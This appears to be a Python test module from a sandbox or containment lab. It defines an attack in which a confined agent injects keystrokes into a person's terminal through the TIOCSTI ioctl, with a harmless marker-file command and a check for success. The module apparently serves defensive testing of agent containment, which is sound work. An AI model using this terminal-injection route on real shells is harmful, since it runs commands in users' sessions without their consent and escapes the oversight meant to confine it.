"""Attackers that a person talks to: they share a terminal with them."""

from __future__ import annotations

import fcntl
import os
import termios
from contextlib import suppress

from detent.lab.attack.attack import Attack, always
from detent.lab.attack.terminal import in_terminal
from detent.lab.attack.values import MACHINES, MARK, WORK

TYPE_CHECKING = False
if TYPE_CHECKING:
    from detent.lab.attack.inside import Inside
    from detent.lab.attack.scene import Scene

_TYPED = "typed-by-the-agent"


def _type(agent: Inside) -> None:
    """Puts words into the input of every terminal it can open, as if the person had typed them."""
    words = f"touch '{agent.at_home(MARK)}' # {_TYPED}\n"
    for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1"):
        with suppress(OSError):
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
            for letter in words:
                fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())


def _talk(scene: Scene) -> None:
    _shown, left = in_terminal(scene.world, "talk", scene.task)
    scene.notes.append(left)


def _was_typed(scene: Scene) -> str:
    return "it typed into your shell" if _TYPED in "".join(scene.notes) else ""


ATTACKS = (
    Attack(
        "types-into-your-shell",
        "types a command into the terminal in which a person talks to it, for the shell to read",
        WORK,
        _type,
        _was_typed,
        always("a talk goes through a terminal of its own, which ends with it"),
        machines=MACHINES,
        drive=_talk,
    ),
)
